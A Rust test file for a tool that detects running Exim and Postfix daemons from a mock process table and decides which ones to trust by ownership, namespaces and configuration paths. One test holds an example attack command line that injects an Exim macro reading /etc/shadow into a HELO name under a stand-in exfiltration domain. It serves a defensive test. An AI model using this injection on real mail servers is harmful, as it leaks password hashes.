use super::*;
use std::collections::{HashMap, HashSet};
use std::os::unix::fs::symlink;
use std::path::PathBuf;

use super::trust::{FileId, guarded};
use crate::collect::root::FileStatus;

/// Debian's Exim runs as this user here.
const EXIM_USER: u32 = 105;

/// A process table, and whose the programs are.
struct Proc {
    dir: tempfile::TempDir,
    /// By path; what is not here, root owns, and every path leads to a file of its own.
    files: HashMap<String, FileId>,
    /// Where the root of the first process leads; `None`: it cannot be seen.
    first_root: Option<&'static str>,
}

impl Proc {
    fn new() -> Proc {
        let proc = Proc { dir: tempfile::tempdir().unwrap(), files: HashMap::new(), first_root: None };
        fs::write(proc.path().join("stat"), "cpu 1 2\nbtime 1000000\nprocesses 3\n").unwrap();
        fs::create_dir_all(proc.path().join("1")).unwrap();
        proc.namespaces(&proc.path().join("self"));
        proc
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn namespaces(&self, folder: &Path) {
        fs::create_dir_all(folder.join("ns")).unwrap();
        for name in ["pid", "net", "mnt"] {
            symlink(format!("{name}:[1]"), folder.join("ns").join(name)).unwrap();
        }
    }

    /// A process of root that was started `seconds` after boot.
    fn add(&self, pid: u32, parent: u32, seconds: i64, exe: &str, arguments: &[&str]) -> PathBuf {
        let folder = self.path().join(pid.to_string());
        self.namespaces(&folder);
        symlink(exe, folder.join("exe")).unwrap();
        fs::write(folder.join("cmdline"), arguments.join("\0") + "\0").unwrap();
        let ticks = seconds * ticks_per_second();
        let stat = format!("{pid} (a) b) S {parent} 1 1 0 -1 4 0 0 0 0 0 0 0 0 20 0 1 0 {ticks} 0 0\n");
        fs::write(folder.join("stat"), stat).unwrap();
        self.runs_as(&folder, [0; 4]);
        folder
    }

    fn runs_as(&self, process: &Path, uids: [u32; 4]) {
        let uids = uids.map(|uid| uid.to_string()).join("\t");
        fs::write(process.join("status"), format!("Name:\tx\nUid:\t{uids}\nGid:\t0\t0\t0\t0\n")).unwrap();
    }

    fn found(&self) -> Found {
        let file_id = |path: &Path| {
            // What a link of the table leads to is the path that it shows.
            let first = path.strip_prefix(self.path().join("1/root"));
            let path = match (first, path.starts_with(self.path())) {
                (Ok(below), _) => Path::new(self.first_root?).join(below),
                (_, true) => fs::read_link(path).ok()?,
                (_, false) => path.to_owned(),
            };
            let path = path.to_str()?;
            let inode = path.bytes().fold(7, |sum: u64, byte| sum.wrapping_mul(31).wrapping_add(u64::from(byte)));
            Some(self.files.get(path).copied().unwrap_or(FileId { device: 1, inode, uid: 0, mode: 0o100_755 }))
        };
        daemons(&Sources { proc: self.path().to_owned(), file_id: &file_id, exim_users: HashSet::from([EXIM_USER]) })
    }

    fn daemons(&self) -> Vec<Daemon> {
        self.found().daemons
    }

    /// The doubts, and that nothing of it is believed.
    fn doubts(&self) -> Vec<Doubt> {
        let found = self.found();
        assert_eq!(found.daemons, []);
        found.unseen.into_iter().map(|unseen| unseen.why).collect()
    }
}

#[test]
fn postfix_is_its_master_and_its_reload_shows_in_the_queue_manager() {
    let proc = Proc::new();
    let master = proc.add(40, 1, 50, "/usr/lib/postfix/sbin/master", &["/usr/lib/postfix/sbin/master", "-w"]);
    fs::write(master.join("environ"), "PATH=/bin\0MAIL_CONFIG=/etc/postfix-out\0").unwrap();
    let manager = proc.add(41, 40, 90, "/usr/lib/postfix/sbin/qmgr", &["qmgr", "-l"]);
    proc.runs_as(&manager, [101; 4]);
    proc.add(42, 1, 95, "/usr/lib/cyrus/bin/master", &["/usr/lib/cyrus/bin/master", "-d"]);
    let found = proc.daemons();
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].mta, found[0].pid), (Mta::Postfix, 40));
    assert_eq!((found[0].started, found[0].loaded), (Some(1_000_050), Some(1_000_090)));
    assert_eq!(found[0].config_directory.as_deref(), Some("/etc/postfix-out"));
    assert_eq!(proc.found().running, [Mta::Postfix]);
}

#[test]
fn macros_that_a_daemon_does_not_take_as_such_are_none() {
    let options = |arguments: &[&str]| {
        let arguments: Vec<String> = arguments.iter().map(|argument| (*argument).to_owned()).collect();
        let EximOptions { config_files, macros, .. } = EximOptions::parse(&arguments);
        (config_files, macros)
    };
    assert_eq!(options(&["exim", "-bd", "-C", "/a", "-DX=1", "-F", "-DY=1"]), (Some("/a".into()), vec!["X=1".into()]));
    assert_eq!(options(&["exim", "-bd", "x@example.com", "-DX=1", "-C/b"]), (None, vec![]));
    assert_eq!(options(&["exim", "-bd", "--", "-DX=1"]), (None, vec![]));
}

#[test]
fn exim_is_its_first_process_that_listens_or_runs_the_queue() {
    for (arguments, daemon) in [
        (&["/usr/sbin/exim", "-ps", "-bd", "-q1h"][..], true),
        (&["exim4", "-bdf", "-q30m"][..], true),
        (&["exim", "-qff15m"][..], true),
        (&["exim", "-q"][..], false),
        (&["exim", "-qff"][..], false),
        (&["exim", "-Mc", "1abc-000"][..], false),
        (&["exim", "-bs"][..], false),
        (&["exim", "-oX", "587:25", "-oP", "/run/exim.pid", "-odq", "-d+all", "-bd"][..], true),
        (&["exim", "-qGbulk/30m"][..], true),
        (&["exim", "-bd", "--"][..], true),
        // What Exim 4.96 calls incompatible arguments: no daemon runs with them.
        (&["exim", "-bd", "-q1h", "--", "-DX=1"][..], false),
        (&["exim", "-bd", "someone@example.com"][..], false),
        // What anybody may hand in under Exim's own user: recipients, a sender's name, an address.
        (&["exim", "-i", "--", "-bd", "-DX=1"][..], false),
        (&["exim", "-F", "-bd", "someone@example.com"][..], false),
        (&["exim", "someone@example.com", "-bd"][..], false),
        (&["exim", "-oX", "-bd"][..], false),
        (&["exim", "-qG30m"][..], false),
    ] {
        let proc = Proc::new();
        proc.add(7, 1, 10, "/usr/sbin/exim-4.97-1 (deleted)", arguments);
        assert_eq!(proc.daemons().len(), usize::from(daemon), "{arguments:?}");
    }
    let proc = Proc::new();
    for (pid, parent) in [(7, 1), (8, 7)] {
        let folder =
            proc.add(pid, parent, 10, "/usr/sbin/exim4", &["exim4", "-bd", "-C", "/etc/a:/etc/b", "-DX=1", "-DY"]);
        proc.runs_as(&folder, [EXIM_USER; 4]);
    }
    proc.add(9, 1, 20, "/usr/bin/eximstats", &["eximstats", "-bd"]);
    let found = proc.daemons();
    assert_eq!(found.iter().map(|d| d.pid).collect::<Vec<_>>(), [7]);
    assert_eq!(found[0].config_files.as_deref(), Some("/etc/a:/etc/b"));
    assert_eq!(found[0].macros, ["X=1", "Y"]);
}

/// `exim -bd -DMACRO=...`, with `-C`, and a `master` with `MAIL_CONFIG`: of a user's own program, and of the host's.
#[test]
fn what_a_user_starts_is_not_believed() {
    const ATTACK: &[&str] =
        &["exim4", "-bd", "-DREMOTE_SMTP_HELO_DATA=${readfile{/etc/shadow}}.exfil.example", "-C/tmp/x"];
    for (exe, arguments) in [
        ("/home/u/exim", ATTACK),
        ("/home/u/usr/sbin/exim4", ATTACK),
        ("/usr/sbin/exim4", ATTACK),
        ("/home/u/postfix/master", &["master"]),
        ("/usr/lib/postfix/sbin/master", &["master"]),
    ] {
        // The set-uid bit gives a user's process root's effective number, never the real one.
        for uids in [[1000; 4], [1000, 0, 0, 0], [0, 0, 1000, 0], [0, 0, 0, 1000]] {
            let proc = Proc::new();
            let folder = proc.add(7, 1, 10, exe, arguments);
            fs::write(folder.join("environ"), "MAIL_CONFIG=/home/u/postfix\0").unwrap();
            proc.runs_as(&folder, uids);
            assert_eq!(proc.doubts(), [Doubt::User { uid: 1000 }], "{exe} {uids:?}");
            assert_eq!(proc.found().running, [], "{exe}");
        }
    }
    let proc = Proc::new();
    let folder = proc.add(7, 1, 10, "/usr/lib/postfix/sbin/master", &["master"]);
    proc.runs_as(&folder, [EXIM_USER; 4]);
    assert_eq!(proc.doubts(), [Doubt::User { uid: EXIM_USER }], "the master is root's alone");
}

#[test]
fn only_the_installed_program_is_believed() {
    let other = FileId { device: 1, inode: 99, uid: 0, mode: 0o100_755 };
    for (exe, id, doubt) in [
        ("/usr/sbin/exim4", None, None),
        ("/home/u/exim", None, Some(Doubt::Program)),
        ("/srv/jail/usr/sbin/exim4", None, Some(Doubt::Program)),
        ("/home/u/exim (deleted)", None, Some(Doubt::Program)),
        ("/usr/sbin/exim4 (deleted)", None, None),
        ("/usr/exim/bin/exim-4.98-1 (deleted)", None, None),
        ("/usr/sbin/exim4", Some(FileId { uid: 1000, ..other }), Some(Doubt::ProgramNotRoots)),
        ("/usr/sbin/exim4", Some(FileId { mode: 0o100_775, ..other }), Some(Doubt::ProgramNotRoots)),
        ("/usr/sbin/exim4", Some(FileId { mode: 0o100_757, ..other }), Some(Doubt::ProgramNotRoots)),
        ("/usr/sbin/exim4 (deleted)", Some(FileId { uid: 1000, ..other }), Some(Doubt::ProgramNotRoots)),
    ] {
        let mut proc = Proc::new();
        proc.files.extend(id.map(|id| (exe.to_owned(), id)));
        proc.add(7, 1, 10, exe, &["exim4", "-bd"]);
        match doubt {
            None => assert_eq!(proc.daemons().len(), 1, "{exe}"),
            Some(doubt) => assert_eq!(proc.doubts(), [doubt], "{exe} {id:?}"),
        }
    }
    // By number, whatever the path: the program stands at one that links lead to.
    let mut proc = Proc::new();
    proc.files.insert("/usr/exim/bin/exim".into(), other);
    proc.files.insert("/usr/exim/bin/exim-4.99-1".into(), other);
    proc.add(7, 1, 10, "/usr/exim/bin/exim-4.99-1", &["exim", "-bd"]);
    assert_eq!(proc.daemons().len(), 1);
}

#[test]
fn a_view_that_a_service_manager_gave_us_is_of_this_host() {
    let mut proc = Proc::new();
    proc.namespaces(&proc.path().join("1"));
    let own = proc.path().join("self/ns/mnt");
    fs::remove_file(&own).unwrap();
    symlink("mnt:[2]", own).unwrap();
    let folder = proc.add(7, 1, 10, "/usr/sbin/exim4", &["exim4", "-bd"]);
    let another = || [Doubt::Namespace { of: "mount".into() }];
    assert_eq!(proc.doubts(), another(), "the first process's root cannot be seen");
    // A container with the host's processes: their files are others.
    proc.first_root = Some("/host");
    assert_eq!(proc.doubts(), another());
    proc.first_root = Some("/");
    assert_eq!(proc.daemons().len(), 1);
    // The daemon has a view of its own.
    fs::remove_file(folder.join("ns/mnt")).unwrap();
    symlink("mnt:[3]", folder.join("ns/mnt")).unwrap();
    assert_eq!(proc.doubts(), another());
}

#[test]
fn a_container_is_another_host() {
    for (name, kind) in [("pid", "process"), ("net", "network"), ("mnt", "mount")] {
        let proc = Proc::new();
        let folder = proc.add(7, 1, 10, "/usr/sbin/exim4", &["exim4", "-bd"]);
        fs::remove_file(folder.join("ns").join(name)).unwrap();
        assert_eq!(proc.doubts(), [Doubt::Refused], "{name}");
        symlink(format!("{name}:[2]"), folder.join("ns").join(name)).unwrap();
        assert_eq!(proc.doubts(), [Doubt::Namespace { of: kind.into() }]);
        // A service may have a view of the files of its own: what it was started with is not followed, and it runs all the same.
        let running: &[Mta] = if name == "mnt" { &[Mta::Exim] } else { &[] };
        assert_eq!(proc.found().running, running, "{name}");
    }
}

#[test]
fn processes_that_cannot_be_looked_at_are_not_believed() {
    let proc = Proc::new();
    fs::create_dir(proc.path().join("12")).unwrap();
    let folder = proc.add(13, 1, 1, "/usr/sbin/exim4", &["/usr/sbin/exim4", "-bd"]);
    fs::write(folder.join("stat"), "13 (exim4").unwrap();
    let folder = proc.add(14, 1, 1, "/usr/sbin/exim4", &["/usr/sbin/exim4", "-bd"]);
    fs::remove_file(folder.join("exe")).unwrap();
    let folder = proc.add(15, 1, 1, "/usr/sbin/exim4", &["/usr/sbin/exim4", "-bd"]);
    fs::remove_file(folder.join("status")).unwrap();
    assert_eq!(proc.doubts(), [Doubt::Refused, Doubt::Refused]);
    fs::remove_dir(proc.path().join("1")).unwrap();
    assert_eq!(proc.doubts()[0], Doubt::Hidden);
    let nothing = Sources { proc: "/nonexistent".into(), file_id: &|_| None, exim_users: HashSet::new() };
    assert_eq!(daemons(&nothing), Found::default());
}

#[test]
fn any_number_of_strange_processes_takes_no_more_room() {
    let proc = Proc::new();
    for pid in 100..200 {
        let folder = proc.add(pid, 1, 1, "/home/u/exim", &["exim", "-bd"]);
        proc.runs_as(&folder, [1000; 4]);
    }
    proc.add(300, 199, 1, "/usr/sbin/exim4", &["exim4", "-bd"]);
    let found = proc.found();
    assert_eq!(found.unseen.len(), UNSEEN_LIMIT);
    assert_eq!(found.daemons.len(), 1, "whoever its parent pretends to be");
}

#[test]
fn a_configuration_that_only_a_process_names_has_to_be_roots() {
    let found = |files: Option<&str>, directory: Option<&str>| {
        let daemon = Daemon {
            mta: if files.is_some() { Mta::Exim } else { Mta::Postfix },
            pid: 7,
            started: None,
            loaded: None,
            config_directory: directory.map(str::to_owned),
            config_files: files.map(str::to_owned),
            macros: Vec::new(),
        };
        let found = Found { daemons: vec![daemon], ..Found::default() };
        let found = found.guarded(&|path| path.starts_with("/srv/"));
        let why = found.unseen.into_iter().map(|unseen| unseen.why).next();
        assert_eq!(found.daemons.len(), usize::from(why.is_none()));
        why
    };
    let strange = |path: &str| Some(Doubt::Configuration { path: path.into() });
    assert_eq!(found(Some("/etc/exim.conf"), None), None, "compiled in, whoever owns it");
    assert_eq!(found(Some("/srv/exim.conf"), None), None);
    assert_eq!(found(Some("/srv/exim.conf:/home/u/exim.conf"), None), strange("/home/u/exim.conf"));
    assert_eq!(found(None, Some("/etc/postfix/")), None);
    assert_eq!(found(None, Some("/srv/out")), None);
    assert_eq!(found(None, Some("/home/u/postfix")), strange("/home/u/postfix"));
}

#[test]
fn every_folder_and_link_on_the_way_counts() {
    let status = |path: &str| {
        let (uid, gid, mode) = match path {
            "/home/u" => (1000, 1000, 0o755),
            "/srv/open" => (0, 0, 0o777),
            "/tmp" => (0, 0, 0o1777),
            "/srv/group" => (0, 50, 0o775),
            "/srv/wheel" => (0, 0, 0o775),
            "/srv/theirs.conf" => (1000, 0, 0o644),
            "/opt/zimbra/main.cf" => (500, 500, 0o644),
            "/srv/none" => return None,
            _ => (0, 0, 0o755),
        };
        Some(FileStatus { size: 0, modified: 0, changed: 0, is_dir: false, is_file: true, mode, uid, gid })
    };
    let link = |path: &str| {
        let target = match path {
            "/srv/away" => "/home/u/back",
            "/home/u/back" => "/srv/exim.conf",
            "/srv/near" => "../srv/exim.conf",
            "/srv/loop" => "loop",
            _ => return None,
        };
        Some(target.to_owned())
    };
    for (path, panel, safe) in [
        ("/srv/exim.conf", None, true),
        ("/srv/none", None, true),
        ("/srv/near", None, true),
        ("/srv/wheel/exim.conf", None, true),
        ("/srv/theirs.conf", None, false),
        ("/home/u/exim.conf", None, false),
        ("/home/u/../../srv/exim.conf", None, false),
        ("/srv/open/exim.conf", None, false),
        ("/srv/group/exim.conf", None, false),
        ("/tmp/exim.conf", None, false),
        ("/srv/away", None, false),
        ("/srv/loop", None, false),
        ("/opt/zimbra/main.cf", None, false),
        ("/opt/zimbra/main.cf", Some(500), true),
    ] {
        assert_eq!(guarded(path, panel, &status, &link), safe, "{path}");
    }
}
